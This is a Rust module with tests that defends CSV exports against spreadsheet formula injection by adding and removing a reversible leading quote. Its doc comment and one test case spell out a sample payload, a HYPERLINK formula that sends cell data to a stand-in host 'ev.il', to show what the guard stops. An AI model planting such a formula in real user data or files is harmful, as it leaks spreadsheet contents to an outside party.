//! The spreadsheet formula guard (CSV injection), shared by every CSV rolecall writes.
//!
//! Excel, LibreOffice Calc and Google Sheets run a cell whose text starts with `=`, `+`, `-`
//! or `@` as a formula (and some versions skip a leading tab or carriage return first). Names,
//! e-mails and group names come from users, and the files holding them (bulk exports, import
//! reports, access reports, the audit CSV) are opened by administrators: a first name
//! `=HYPERLINK("//ev.il/?"&B2,"x")` would become a live formula in a System admin's
//! spreadsheet. The usual guard is a leading `'`, which spreadsheets treat as "this is text".
//!
//! Bulk files must also read back to what was written (export → import → export is
//! byte-identical), so here the guard is reversible:
//!
//! - [`escape`] prefixes one `'` to a cell starting with one of the formula characters, and
//!   also to a cell that already starts with `'` followed by one of them or by another `'`
//!   (so a name that really is `'=x` is written `''=x` and cannot be mistaken for a guarded
//!   `=x`). Every other cell is left as it is: `'t Hooft`, a Dutch name, is written
//!   unchanged.
//! - [`unescape`] drops the leading `'` of exactly the cells [`escape`] would have produced:
//!   a `'` followed by a formula character or by another `'`.
//!
//! So `unescape(escape(s)) == s` for every string (property-tested). The bulk writer escapes
//! each whole cell after a list's items are joined, and the bulk reader unescapes each whole
//! cell before its items are split: a spreadsheet only looks at the start of a cell.

use std::borrow::Cow;

/// What a spreadsheet may take as the start of a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `text` starts with a formula character or with `'` (so that a leading `'` of the
/// text itself is never taken for the guard).
fn starts_guarded(text: &str) -> bool {
    text.starts_with(FORMULA_START) || text.starts_with('\'')
}

/// Whether [`escape`] prefixes `cell`: it starts with a formula character, or with `'`
/// followed by a formula character or another `'`.
fn needs_guard(cell: &str) -> bool {
    match cell.strip_prefix('\'') {
        Some(rest) => starts_guarded(rest),
        None => cell.starts_with(FORMULA_START),
    }
}

/// The cell as written to a CSV file: one `'` in front when a spreadsheet would run it as a
/// formula (it starts with `=`, `+`, `-`, `@`, tab or carriage return) or when it starts with
/// `'` followed by one of those or by another `'` (so that [`unescape`] gives it back
/// exactly). `=x` → `'=x`, `'=x` → `''=x`, `'t Hooft` and `Ann` unchanged.
pub fn escape(cell: &str) -> Cow<'_, str> {
    if needs_guard(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as read from a CSV file [`escape`] wrote: without its leading `'` when that `'`
/// is followed by a formula character or by another `'`; any other cell as it is. `'=x` →
/// `=x`, `''=x` → `'=x`, `'t Hooft` and `=x` unchanged.
pub fn unescape(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if starts_guarded(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formulas_get_one_quote() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"//ev.il/?\"&B2,\"x\")",
                "'=HYPERLINK(\"//ev.il/?\"&B2,\"x\")",
            ),
            ("=x", "'=x"),
            ("+cmd", "'+cmd"),
            ("-1+2", "'-1+2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=x", "'\t=x"),
            ("\r=x", "'\r=x"),
            ("-", "'-"),
        ] {
            assert_eq!(escape(cell), written, "{cell:?}");
            assert_eq!(unescape(written), cell, "{written:?}");
        }
    }

    #[test]
    fn a_quote_that_could_be_taken_for_the_guard_gets_another() {
        for (cell, written) in [
            ("'=x", "''=x"),
            ("''=x", "'''=x"),
            ("'+cmd", "''+cmd"),
            ("'-", "''-"),
            ("''", "'''"),
            ("'''", "''''"),
        ] {
            assert_eq!(escape(cell), written, "{cell:?}");
            assert_eq!(unescape(written), cell, "{written:?}");
        }
    }

    #[test]
    fn other_cells_are_left_alone() {
        for cell in [
            "",
            "'",
            "'t Hooft",
            "' =x",
            "Ann",
            "a=b",
            "x-y",
            "ann@example.com",
            " =x",
            "O'Brien",
            "Sales; EMEA",
        ] {
            assert!(matches!(escape(cell), Cow::Borrowed(_)), "{cell:?}");
            assert_eq!(escape(cell), cell, "{cell:?}");
            assert_eq!(unescape(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn unescape_only_drops_a_guard() {
        assert_eq!(unescape("'=x"), "=x");
        assert_eq!(unescape("''=x"), "'=x");
        assert_eq!(unescape("''"), "'");
        assert_eq!(unescape("'t Hooft"), "'t Hooft");
        assert_eq!(unescape("'"), "'");
        assert_eq!(unescape("=x"), "=x");
    }

    /// Text made mostly of the characters that matter here, so quotes and formula starts
    /// come up often, plus any other character now and then.
    fn tricky() -> impl Strategy<Value = String> {
        proptest::collection::vec(
            prop_oneof![
                4 => prop::sample::select(vec!['\'', '=', '+', '-', '@', '\t', '\r', ' ', 'a']),
                1 => any::<char>(),
            ],
            0..8,
        )
        .prop_map(|cs: Vec<char>| cs.into_iter().collect::<String>())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(1024))]

        #[test]
        fn unescape_undoes_escape(s in tricky()) {
            let written = escape(&s);
            prop_assert_eq!(unescape(&written), s.as_str());
        }

        #[test]
        fn unescape_undoes_escape_on_any_text(s in any::<String>()) {
            let written = escape(&s);
            prop_assert_eq!(unescape(&written), s.as_str());
        }

        /// What is written never starts a formula, and a file's cell read and written again
        /// is the same cell (the re-export is byte-identical).
        #[test]
        fn escaped_cells_are_inert_and_stable(s in tricky()) {
            let written = escape(&s);
            prop_assert!(!written.starts_with(FORMULA_START), "{:?}", written);
            let again = escape(unescape(&written));
            prop_assert_eq!(&*again, &*written);
        }
    }
}
